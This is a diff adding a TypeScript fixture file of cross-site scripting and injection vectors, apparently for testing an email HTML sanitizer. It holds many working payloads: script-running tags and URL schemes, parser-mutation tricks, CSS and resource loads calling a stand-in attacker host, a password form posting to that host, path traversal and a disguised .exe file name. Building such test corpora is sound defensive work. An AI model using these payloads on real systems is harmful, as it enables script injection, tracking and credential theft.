@@ -1,0 +1,255 @@
+/** Where everything that escapes would ask. */
+export const EVIL = 'evil.example';
+const JS = `console.log('pwned');alert(1)`;
+const ASK = `//${EVIL}/x`;
+const U = `https:${ASK}`;
+
+const HANDLERS =
+  'onerror onload onclick onmouseover onfocus ontoggle onanimationstart onbegin onpageshow'.split(
+    ' ',
+  );
+const TAGS =
+  'img svg body video audio details marquee object input select style iframe math table a'.split(
+    ' ',
+  );
+
+/** Elements with a handler that runs by itself or by a touch. */
+const handlers = TAGS.flatMap((tag, at) => {
+  const name = HANDLERS[at % HANDLERS.length] ?? 'onerror';
+  return [
+    `<${tag} src=x ${name}="${JS}" autofocus open>`,
+    `<${tag}/${name}=${JS.replaceAll(' ', '')} src=x>`,
+    `<${tag.toUpperCase()} SRC=x ${name.toUpperCase()}\n=\n"${JS}">`,
+  ];
+});
+
+/** Addresses that run. */
+const schemes = [
+  `javascript:${JS}`,
+  `JaVaScRiPt:${JS}`,
+  `java\nscript:${JS}`,
+  `java&#x09;script:${JS}`,
+  `&#106;&#97;vascript:${JS}`,
+  `\u0001javascript:${JS}`,
+  ` javascript:${JS}`,
+  `javascript&colon;${JS}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${JS}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'/>`,
+  `blob:${U}`,
+  `file:///etc/passwd`,
+  `filesystem:${U}`,
+  `view-source:${U}`,
+];
+const addresses = schemes.flatMap((scheme) => [
+  `<a href="${scheme}">link</a>`,
+  `<img src="${scheme}">`,
+  `<iframe src="${scheme}"></iframe>`,
+]);
+
+/** What loads as soon as it is there. */
+const loads = [
+  `<img src="${U}">`,
+  `<img src="${ASK}">`,
+  `<img src="\\\\${EVIL}\\x">`,
+  `<img src="/\\${EVIL}/x">`,
+  `<img srcset="${U} 1x, ${U}2 2x">`,
+  `<img lowsrc="${U}" dynsrc="${U}">`,
+  `<img src="x" crossorigin srcset="${U}">`,
+  `<picture><source srcset="${U}"><img></picture>`,
+  `<video poster="${U}" src="${U}" autoplay></video>`,
+  `<audio src="${U}" autoplay></audio>`,
+  `<body background="${U}">`,
+  `<table background="${U}"><tr><td background="${U}">x</td></tr></table>`,
+  `<input type="image" src="${U}">`,
+  `<object data="${U}"></object>`,
+  `<embed src="${U}">`,
+  `<applet code="${U}"></applet>`,
+  `<iframe src="${U}"></iframe>`,
+  `<iframe srcdoc="<img src=${U}><script>${JS}</script>"></iframe>`,
+  `<frameset><frame src="${U}"></frameset>`,
+  `<portal src="${U}"></portal>`,
+  `<link rel="stylesheet" href="${U}">`,
+  `<link rel="prefetch" href="${U}">`,
+  `<link rel="dns-prefetch" href="${ASK}">`,
+  `<link rel="preconnect" href="${U}">`,
+  `<link rel="modulepreload" href="${U}">`,
+  `<link rel="icon" href="${U}">`,
+  `<meta http-equiv="refresh" content="0;url=${U}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
+  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
+  `<meta http-equiv="Link" content="<${U}>; rel=preload; as=image">`,
+  `<base href="${U}/"><img src="relative.png"><a href="relative">x</a>`,
+  `<base target="_top">`,
+  `<script src="${U}"></script>`,
+  `<script type="module">import '${U}'</script>`,
+  `<script type="speculationrules">{"prefetch":[{"urls":["${U}"]}]}</script>`,
+  `<a href="x" ping="${U}">ping</a>`,
+  `<track src="${U}"><bgsound src="${U}">`,
+  `<html manifest="${U}"><img src=cid:nothing>`,
+  `<img src="cid:../../../${EVIL}"><img src="CID:x%0d%0a${U}">`,
+  `<image href="${U}"><image src="${U}">`,
+];
+
+/** Styles that load, run or cover. */
+const values = [
+  `background:url(${U})`,
+  `background:url('${ASK}')`,
+  `background-image:url("${U}")`,
+  `background:u\\72l(${U})`,
+  `background:\\75rl(${U})`,
+  `background:/**/url(${U})`,
+  `background:red;background-image:image-set('${U}' 1x)`,
+  `background:-webkit-image-set(url(${U}) 1x)`,
+  `background-image:cross-fade(url(${U}),url(${U}),50%)`,
+  `list-style:url(${U})`,
+  `list-style-image:url(${U})`,
+  `cursor:url(${U}),auto`,
+  `border-image:url(${U}) 30`,
+  `content:url(${U})`,
+  `mask:url(${U})`,
+  `filter:url(${U}#x)`,
+  `clip-path:url(${U}#x)`,
+  `shape-outside:url(${U})`,
+  `offset-path:url(${U}#p)`,
+  `src:url(${U})`,
+  `width:expression(${JS})`,
+  `-moz-binding:url(${U}#x)`,
+  `behavior:url(${U})`,
+  `position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999`,
+  `--x:url(${U});background:var(--x)`,
+  `color:red}*{background:url(${U})}`,
+  `font-family:x;}@import '${U}';{`,
+  `font-family:'</style><script>${JS}</script>'`,
+  `animation:x 1s;transition:all 1s`,
+];
+const styles = [
+  ...values.map((value) => `<p style="${value.replaceAll('"', '&quot;')}">styled</p>`),
+  `<style>@import '${U}';</style>`,
+  `<style>*{background:url(${U})}</style>`,
+  `<style>@font-face{font-family:x;src:url(${U})}*{font-family:x}</style>`,
+  `<style>a[href^="h"]{background:url(${U})}</style><a href="https://a.example/">x</a>`,
+  `<style><img src=x onerror="${JS}"></style>`,
+  `<svg><style>*{background:url(${U})}</style></svg>`,
+];
+
+/** What is read in one way by one parser and in another by the next. */
+const mutations = [
+  `<svg><script>${JS}</script></svg>`,
+  `<svg><image href="${U}"></image><use href="${U}#x"></use></svg>`,
+  `<svg><animate attributeName=href values="javascript:${JS}"></animate><a id=x><text>x</text></a></svg>`,
+  `<svg><foreignObject><iframe src="${U}"></iframe></foreignObject></svg>`,
+  `<svg></p><style><a id="</style><img src=x onerror='${JS}'>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${JS}&gt;">`,
+  `<math><mi xlink:href="javascript:${JS}">x</mi></math>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror="${JS}"></annotation-xml></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${JS}">`,
+  `<xmp><img src=x onerror="${JS}"></xmp>`,
+  `<xmp></xmp><img src=x onerror="${JS}">`,
+  `<noscript><p title="</noscript><img src=x onerror='${JS}'>"></noscript>`,
+  `<noembed><img title="</noembed><img src=x onerror='${JS}'>"></noembed>`,
+  `<noframes><p title="</noframes><img src=x onerror='${JS}'>"></noframes>`,
+  `<template><img src=x onerror="${JS}"></template>`,
+  `<template shadowrootmode="open"><img src="${U}"></template>`,
+  `<textarea><img title="</textarea><img src=x onerror='${JS}'>"></textarea>`,
+  `<title><img title="</title><img src=x onerror='${JS}'>"></title>`,
+  `<select><template><img src=x onerror="${JS}"></template></select>`,
+  `<plaintext><img src=x onerror="${JS}">`,
+  `<!--><img src=x onerror="${JS}">-->`,
+  `<!--!><img src=x onerror="${JS}">--!>`,
+  `<![CDATA[<img src=x onerror="${JS}">]]>`,
+  `<?xml version="1.0"?><img src=x onerror="${JS}">`,
+  `<!DOCTYPE html [<!ENTITY x "<script>${JS}</script>">]>&x;`,
+  `<<script>${JS}//<</script>`,
+  `<scr<script>ipt>${JS}</scr</script>ipt>`,
+  `<script>${JS}</script`,
+  `<script\x0b>${JS}</script>`,
+  `<\u0000script>${JS}</script>`,
+  `<img src="x" title="\`><script>${JS}</script>">`,
+  `<img """><script>${JS}</script>">`,
+  `<a title='x"onmouseover="${JS}' href="https://a.example/">x</a>`,
+  `<a href='https://a.example/"onclick="${JS}'>x</a>`,
+  `<p title="&quot;&gt;&lt;script&gt;${JS}&lt;/script&gt;">x</p>`,
+  `<p lang='"><script>${JS}</script>' dir='"onload=x'>x</p>`,
+  `<font face='x"onload="${JS}' color="red;background:url(${U})">x</font>`,
+  `<td width='1"onload="${JS}'>x</td>`,
+  `<div id=getElementById name=body><img name=cookie><form name=location></form></div>`,
+  `<button formaction="javascript:${JS}" type=submit>x</button>`,
+  `<form action="${U}"><input name=password><button>Sign in</button></form>`,
+  `<isindex action="javascript:${JS}" type=image>`,
+  `<dialog open><form method=dialog><button>x</button></form></dialog>`,
+  `<x contenteditable onfocus="${JS}" tabindex=1 autofocus>x</x>`,
+  `<div popover id=p onbeforetoggle="${JS}">x</div><button popovertarget=p>x</button>`,
+  `<p __proto__="x" constructor="y" hasOwnProperty="z">x</p><__proto__>x</__proto__>`,
+  `${'<div>'.repeat(600)}<img src=x onerror="${JS}">`,
+  `${'<table><tr><td>'.repeat(200)}<script>${JS}</script>`,
+  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
+  `\u2028<img src=x onerror=\u2029"${JS}">`,
+  `＜script＞${JS}＜/script＞`,
+];
+
+export const HTML_VECTORS: readonly string[] = [
+  ...handlers,
+  ...addresses,
+  ...loads,
+  ...styles,
+  ...mutations,
+];
+
+/** For every place where a mail says something in plain words: subject, names, texts, file names. */
+export const TEXT_VECTORS: readonly string[] = [
+  `<script>${JS}</script>`,
+  `"><img src=x onerror="${JS}">`,
+  `'><svg/onload=${JS}>`,
+  `" onmouseover="${JS}" autofocus onfocus="${JS}`,
+  `' style='background:url(${U})`,
+  `</title><script>${JS}</script>`,
+  `</textarea><script>${JS}</script>`,
+  `</a><iframe src="${U}">`,
+  `<%= process.exit(1) %><%- '<script>' %>`,
+  `{{constructor.constructor('${JS}')()}}`,
+  `\${${JS}}`,
+  `{{count}} $t(app.name) {{- name}}`,
+  `&lt;img src=x onerror=${JS}&gt;`,
+  `&#60;script&#62;${JS}&#60;/script&#62;`,
+  `javascript:${JS}`,
+  `https://${EVIL}/" onclick="${JS}`,
+  `https://${EVIL}/'><script>${JS}</script>`,
+  `https://a.example@${EVIL}/`,
+  `../../../../etc/passwd<script>.html`,
+  `..\\..\\windows\\system32\\cmd.exe`,
+  `CON.html`,
+  `__proto__`,
+  `constructor`,
+  `x.svg" type="image/svg+xml`,
+  `invoice\u202Efdp.exe`,
+  `a\u0000b<b>.html`,
+  `%3Cscript%3E${JS}%3C/script%3E`,
+  `${'A'.repeat(900)}<script>${JS}</script>`,
+  `=HYPERLINK("${U}")`,
+  `<!--#exec cmd="ls"-->`,
+  `<meta http-equiv=refresh content=0;url=${U}>`,
+  `<link rel=prefetch href=${U}>`,
+  `<base href=${U}>`,
+  `hx-get="${U}" hx-trigger="load"`,
+  `<div hx-get="${U}" hx-trigger="load"></div>`,
+  `]]><script>${JS}</script>`,
+  `\u2028\u2029<svg onload=${JS}>`,
+  `＜script＞${JS}＜/script＞`,
+  `\`-alert(1)-\``,
+  `*/alert(1)/*`,
+];
+
+/** Types that browsers would run, were they to show them. */
+export const TYPE_VECTORS: readonly string[] = [
+  'text/html',
+  'image/svg+xml',
+  'application/xhtml+xml',
+  'text/xml',
+  'application/javascript',
+  'text/javascript',
+  'application/x-shockwave-flash',
+  'text/html;charset=utf-7',
+  'message/rfc822',
+];
